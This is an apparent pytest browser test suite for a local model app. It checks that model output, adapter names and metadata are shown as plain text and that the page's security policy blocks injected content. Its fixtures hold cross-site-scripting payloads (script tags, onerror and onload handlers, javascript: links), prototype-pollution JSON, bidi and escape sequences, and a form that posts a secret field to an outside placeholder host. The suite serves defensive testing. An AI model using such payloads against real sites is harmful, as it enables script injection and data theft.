"""What a model says, and what files call themselves, is text on the app's screens, whatever it spells."""

from __future__ import annotations

import json
import os
import re
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from edgekit.site import build_site
from edgekit_exporters.gguf.metadata import rewrite_metadata
from edgekit_runtime.formats.bundle import file_digest
from edgekit_runtime.formats.gguf import read_gguf
from edgekit_runtime.runtime import Runtime
from tests.browser import needs_chromium
from tests.goods import Goods
from tests.screen import begin
from tests.site import SiteHost, hosting, phone

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

pytestmark = needs_chromium

SIZES = ((390, 844), (1280, 800))
QUESTION = "scratch"
TOKENS = 32  # of the answer
RUN = "window.ran=1"
PIECES = {
    "script": f"<script>{RUN}</script>",
    "picture": f"<img src=x onerror='{RUN}'><svg onload={RUN}><iframe srcdoc='<script>parent.{RUN}</script>'>",
    "link": f'[x](javascript:{RUN}) <a href="javascript:{RUN}">https://bank.example</a>',
    "the page": '</div></li></ol></section></main><form id="ask"><button id="send">Send</button></form><dialog open>',
    "bidi": "\u202eevil\u2066\u2067\u202d\u061c ok",
    "NUL": "a\0b\x01\x7f\x9b31m",
    "ESC": "\x1b[31m\x1b]0;title\x07\x1b[2J\x1b[H",
    "piled up": "Z" + "\u0301\u0489" * 200,
    "unbreakable": "\U0001f468\u200d" * 400,
    **{f"no space {number}": sign * 35_000 for number, sign in enumerate("ABC")},  # llama.cpp takes no longer tokens
    "lines": "\n\r\u2028\u0085" * 500,
    "noncharacters": "\uffff\ufffe\ue000\U0010ffff\u2060\ufeff",
}
BYTES = [*range(33, 127), *range(161, 173), *range(174, 256)]
SIGNS = {each: chr(each) for each in BYTES} | {
    each: chr(256 + number) for number, each in enumerate(each for each in range(256) if each not in BYTES)
}  # how GPT-2's vocabularies spell bytes


def saying(goods: Goods, pieces: list[str], folder: Path) -> tuple[Path, str]:
    """The small bundle, whose base says these pieces: the tokens that it prefers stand for them; and what it says."""
    bundle = folder / "bundle"
    shutil.copytree(goods.bundle, bundle)
    path = bundle / "base/model.gguf"
    texts = list(read_gguf(path).metadata["tokenizer.ggml.tokens"])
    with Runtime(bundle, threads=1) as runtime:
        kept = {*runtime.encode([{"role": "user", "content": QUESTION}], "base").tokens, *range(400)}  # and bytes
    name_tokens(bundle, [each if number in kept else f"({number})" for number, each in enumerate(texts)])
    with Runtime(bundle, threads=1) as runtime:
        said = runtime.generate(QUESTION, adapter="base").text
    chosen = list(dict.fromkeys(map(int, re.findall(r"\((\d+)\)", said))))[: len(pieces)]
    for token, piece in zip(chosen, [*pieces[: len(chosen) - 1], "".join(pieces[len(chosen) - 1 :])], strict=True):
        texts[token] = "".join(SIGNS[each] for each in piece.encode())
    name_tokens(bundle, texts)
    signs = {sign: byte for byte, sign in SIGNS.items()}
    text = re.sub(
        r"\((\d+)\)", lambda match: bytes(signs[each] for each in texts[int(match[1])]).decode("latin-1"), said
    )
    return bundle, text.encode("latin-1").decode()


def name_tokens(bundle: Path, texts: list[str]) -> None:
    path = bundle / "base/model.gguf"
    rewrite_metadata(path, path.with_suffix(".new"), {"tokenizer.ggml.tokens": texts})
    path.with_suffix(".new").replace(path)
    relist(bundle, "base/model.gguf")


def relist(bundle: Path, file: str, **changes: Any) -> None:
    """Let the manifest list a file as it is now."""
    manifest = json.loads((bundle / "manifest.json").read_text())
    size, digest = (bundle / file).stat().st_size, file_digest(bundle / file)
    for entry in (manifest["base"], *manifest["adapters"], *manifest["files"]):
        if file in (entry.get("file"), entry.get("path")):
            entry |= {"digest": digest} if "file" in entry else {"size": size, "sha256": digest}
    manifest["base"]["generation"] = {"max_tokens": TOKENS}
    (bundle / "manifest.json").unlink()
    (bundle / "manifest.json").write_text(json.dumps(manifest | changes))


@pytest.fixture(scope="module")
def hostile(goods: Goods, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[SiteHost, str]]:
    """A site whose base says hostile things, and what it says there."""
    folder = tmp_path_factory.mktemp("hostile")
    bundle, said = saying(goods, list(PIECES.values()), folder)
    relist(bundle, "base/model.gguf", name=f'<img src=x onerror={RUN}> & "line" {{name}} {"x" * 100}')
    build_site(bundle, folder / "site")
    with hosting(folder / "site") as host:
        yield host, said


def looked_at(page: Page, name: str) -> None:
    """Nothing has run, nothing is wider than the screen, and what is the app's own is where it belongs."""
    for width, height in SIZES:
        page.set_viewport_size({"width": width, "height": height})
        for scheme in ("light", "dark"):
            page.emulate_media(color_scheme=scheme)  # type: ignore[arg-type]
            if shots := os.environ.get("EDGEKIT_SCREENSHOTS"):
                page.screenshot(path=str(Path(shots) / f"hostile-{name}-{width}-{scheme}.png"))
        assert page.evaluate("document.documentElement.scrollWidth") <= width, (name, width)
        assert page.evaluate("document.documentElement.scrollHeight") <= height, (name, width)
        wide = page.locator("li:visible, dd:visible, dt:visible, .said:visible, .failure:visible").evaluate_all(
            """(all) => all.map((each) => each.getBoundingClientRect())
                 .filter(({ left, right }) => left < 0 || right > innerWidth)"""
        )
        assert wide == [], (name, width)
        for own in ("header", "#ask"):
            box = page.locator(own).bounding_box()
            assert box is not None
            assert box["y"] >= 0
            assert box["y"] + box["height"] <= height + 1, (name, own)
    assert page.evaluate("window.ran") is None
    found = "script:not([src]), iframe, #talk img, #menu img, #talk a, svg[onload], [onerror], form, dialog"
    assert page.locator(found).evaluate_all("(all) => all.map((each) => each.id)") == ["ask", "menu", "from-url"]


def test_what_a_model_says_is_shown_as_text_and_kept_in_the_history(
    hostile: tuple[SiteHost, str], browser: Browser
) -> None:
    host, said = hostile
    assert [name for name, piece in PIECES.items() if piece not in said] == []
    with phone(browser, locale="en") as page:
        page.goto(host.url)
        begin(page)
        page.select_option("#adapter", "base")
        page.fill("#prompt", QUESTION)
        page.click("#send")
        page.wait_for_selector(".answer .foot", timeout=120_000)
        assert page.locator(".said").evaluate("(each) => each.textContent") == said
        assert page.title().startswith("<img")
        looked_at(page, "answer")
        page.locator("#talk").evaluate("(each) => each.scrollTo(0, 0)")
        looked_at(page, "answer-above")
        page.reload()
        page.wait_for_selector("#ask:not([hidden])", timeout=120_000)
        page.click("#open-menu")
        page.wait_for_selector("#history b")
        kept = page.locator("#history li > div > div").last.evaluate("(each) => each.textContent")
        assert kept[:-1] == said[: len(kept) - 1]
        assert len(kept) > 10_000
        looked_at(page, "menu")
        page.locator("#history").scroll_into_view_if_needed()
        looked_at(page, "history")


def test_an_answer_in_json_is_shown_as_fields_only_where_they_say_all_of_it(site: Path, browser: Browser) -> None:
    """The answers are given: which JSON a model writes, random weights don't tell."""
    long = json.dumps({"n" * 5000: "v" * 5000, "b": "short"}, separators=(",", ":"))
    hostile_ = json.dumps(
        {"__proto__": f"<img src=x onerror={RUN}>", "constructor": None, "\u202eid": "\u202eok", "": "a\nb"}
    )
    as_fields = ['{"verdict":"scrap", "size": 0.4}', hostile_.replace("\\u202e", "\u202e"), long]
    as_text = [
        '{"verdict":"scrap","verdict":"ok"}',
        '{"size":12345678901234567890}',
        '{"size":1e400}',
        "{}",
        '{"a":"\\ud800"}',
        json.dumps({str(number): 1 for number in range(1, 200)}),
        "[" * 50_000,
        '{"a":' * 5000 + "1" + "}" * 5000,
        '["a"]',
    ]
    with hosting(site) as host, phone(browser, locale="en") as page:
        page.goto(host.url)
        begin(page)
        page.evaluate(
            """() => {
              const generate = edgekit.generate.bind(edgekit);
              edgekit.generate = async (request) => {
                const answer = await generate({ ...request, onText: undefined, max_tokens: 1, reuse: false });
                request.onText(answer.text = JSON.parse(request.prompt));
                return answer;
              };
            }"""
        )
        page.evaluate("() => { edgekit.prompts.chat = () => ['x']; }")
        for number, answer in enumerate(as_fields + as_text, 1):
            page.fill("#prompt", json.dumps(answer))
            page.click("#send")
            page.wait_for_selector(f"li.answer:nth-of-type({2 * number}) .foot", timeout=60_000)
            shown = page.locator(".said").last
            assert (shown.locator("dl").count() == 1) == (answer in as_fields), answer[:80]
            if answer in as_text:
                assert shown.evaluate("(each) => each.textContent") == answer
            else:
                names = shown.locator("dt").evaluate_all("(all) => all.map((each) => each.textContent)")
                assert names == list(json.loads(answer))
                page.wait_for_selector("#send:not([hidden])")
                looked_at(page, f"fields-{number}")


def test_what_adapter_files_call_themselves_is_text(site: Path, browser: Browser, goods: Goods, tmp_path: Path) -> None:
    from playwright.sync_api import expect

    html = f"<img src=x onerror={RUN}>"
    facts: list[tuple[dict[str, str | None], str]] = [
        ({"edgekit.name": html}, f"'{html}' is no name for an adapter"),
        ({"edgekit.name": "n" * 200_000}, "...' is no name for an adapter"),
        ({"edgekit.name": "__proto__"}, "'__proto__' is no name for an adapter"),
        ({"edgekit.name": "base"}, "'base' is no name for an adapter"),
        ({"edgekit.version": "1\n\x1b[2J\u202e"}, r"'1\n\x1b[2J\u202e' is no version"),
        ({"edgekit.family": f"{html}\n\u202e{'f' * 200_000}"}, rf"trained for the base {html} \u202eff"),
        ({"edgekit.generation": '{"max_tokens": "many"}'}, "generation.max_tokens is 'many'"),
        ({"edgekit.generation": '{"__proto__": {"polluted": 1}, "temperature": []}'}, "generation.temperature is '[]'"),
        ({"edgekit.output_schema": "[]"}, "edgekit.output_schema is not a JSON object"),
    ]
    with hosting(site) as host, phone(browser, locale="en") as page:
        page.goto(host.url)
        begin(page)
        page.click("#open-menu")
        for number, (changes, problem) in enumerate(facts):
            rewrite_metadata(goods.two, tmp_path / "x.gguf", changes)
            content = (tmp_path / "x.gguf").read_bytes()
            page.set_input_files("#adapter-file", {"name": f"{html} {number}.gguf", "mimeType": "", "buffer": content})
            expect(page.locator("#installing")).to_contain_text(problem)
            assert len(page.inner_text("#installing")) < 4100
            looked_at(page, f"adapter-{number}")
        huge = {"title": html * 5000, "enum": [html, "\u202e"], "__proto__": {"polluted": 1}}
        constructor = {
            "edgekit.name": "constructor",
            "edgekit.version": "9" * 64,
            "edgekit.output_schema": json.dumps(huge),
        }
        arguments = json.dumps({"__proto__": {"polluted": 1}, "constructor": {"name": html}, "tools": html})
        more = {"edgekit.system": f"{html}\n\x1b[2J" * 8000, "edgekit.template_arguments": arguments}
        rewrite_metadata(goods.two, tmp_path / "good.gguf", constructor | more)
        page.set_input_files("#adapter-file", tmp_path / "good.gguf")
        expect(page.locator("#installing")).to_have_text(f"constructor {'9' * 64} is active.", timeout=60_000)
        looked_at(page, "adapter-active")
        page.click("#menu [data-close]")
        page.select_option("#adapter", "constructor")
        page.fill("#prompt", "scratch")
        page.click("#send")
        expect(page.locator(".answer .failure")).to_contain_text("longer than the context", timeout=60_000)
        looked_at(page, "adapter-too-long")
        page.select_option("#adapter", "one")
        page.click("#send")
        page.wait_for_selector(".answer .foot", timeout=60_000)  # the others go on
        assert page.evaluate("({}).polluted") is None


INJECTED = f"""
<img src=x onerror="{RUN}"><script>{RUN}</script><svg onload="{RUN}"></svg><p id=styled style="position: fixed">x</p>
<iframe srcdoc="<script>parent.{RUN}</script>"></iframe><object data="data:text/html,x"></object>
<a id=link href="javascript:{RUN}">x</a><button id=pressed onclick="{RUN}">x</button>
<form id=sent action="https://elsewhere.example/"><input name=secret value=1></form>
<img src="https://elsewhere.example/x.png"><link rel=stylesheet href="https://elsewhere.example/x.css">
<base href="https://elsewhere.example/"><style id=inline>body {{ display: none }}</style>
"""
INJECT = """async ([html, elsewhere]) => {
  const broken = new Set();
  document.addEventListener("securitypolicyviolation", (event) => broken.add(event.effectiveDirective));
  const place = document.createElement("div");
  document.body.append(place);
  place.innerHTML = html;
  const later = (action) => new Promise((resolve) => setTimeout(() => resolve(action()), 0));
  for (const id of ["link", "pressed"]) await later(() => document.getElementById(id).click());
  await later(() => document.getElementById("sent").submit());
  const wild = [];
  const tried = async (name, action) => later(async () => action().then(() => wild.push(name), () => undefined));
  await tried("eval", async () => (0, eval)("1"));
  await tried("Function", async () => new Function("return 1")());
  await tried("fetch", async () => fetch(elsewhere, { mode: "no-cors" }));
  for (const src of ["data:text/javascript,window.ran=1", URL.createObjectURL(new Blob(["window.ran=1"])), elsewhere]) {
    await tried(src, () => new Promise((resolve, reject) => {
      const script = Object.assign(document.createElement("script"), { src, onload: resolve, onerror: reject });
      document.body.append(script);
    }));
  }
  await later(() => setTimeout("window.ran=1", 0));
  await new Promise((resolve) => setTimeout(resolve, 500));
  const { position } = getComputedStyle(document.getElementById("styled"));
  const { display } = getComputedStyle(document.body);
  return { broken: [...broken].sort(), wild, ran: window.ran ?? null, base: document.baseURI, position, display };
}"""


@pytest.mark.parametrize("isolated", [True, False])
def test_nothing_that_got_into_the_page_could_run_or_reach_anybody(
    site: Path, browser: Browser, isolated: bool, tmp_path: Path
) -> None:
    (tmp_path / "other").mkdir()
    (tmp_path / "other/x.js").write_text(RUN)
    context = browser.new_context()
    with hosting(site, isolated=isolated) as host, hosting(tmp_path / "other") as other:
        page = context.new_page()
        page.goto(host.url)
        page.wait_for_selector("#begin:not([hidden])")
        said = page.evaluate(INJECT, [INJECTED, f"{other.url}x.js"])
        assert (said["ran"], said["wild"], said["base"]) == (None, [], host.url)
        assert (said["position"], said["display"]) == ("static", "flex")
        assert {"script-src-attr", "script-src-elem", "style-src-attr", "style-src-elem", "img-src", "connect-src"} <= {
            *said["broken"]
        }
        assert {"form-action", "base-uri", "frame-src", "object-src"} & {*said["broken"]}
        assert other.asked == []
    context.close()
